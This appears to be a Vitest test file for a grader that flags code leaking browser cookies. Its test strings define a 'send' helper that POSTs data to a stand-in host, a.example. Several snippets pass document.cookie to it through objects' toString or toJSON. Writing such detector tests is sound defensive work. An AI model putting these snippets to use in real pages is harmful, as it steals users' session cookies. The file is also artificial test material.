import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

const SEND = "const send = (x) => fetch('https://a.example/', { method: 'POST', body: x });";
const gradeOf = (content: string): Promise<string> => graded({ content: `${SEND} ${content}` });

it.each([
  [
    "class A { constructor(c) { this.c = c; } toString() { return 'c=' + this.c; } } send(`${new A(document.cookie)}`);",
  ],
  [
    "class A { #l = []; add(c) { this.#l.push(c); } toString() { return this.#l.join(); } } const a = new A(); a.add(document.cookie); send('' + a);",
  ],
  ['const a = { v: document.cookie, toString() { return this.v; } }; send(`${a}`);'],
  ['class A { toJSON() { return { c: document.cookie }; } } send(JSON.stringify({ a: new A() }));'],
])('takes an object for what it is as a text: %s', async (content) => {
  expect(await gradeOf(content)).toBe('F');
});

it('takes it for nothing else that it holds', async () => {
  const named =
    "class A { constructor(c) { this.c = c; } toString() { return 'A'; } } send(`${new A(document.cookie)}`);";
  expect(await gradeOf(named)).not.toBe('F');
});
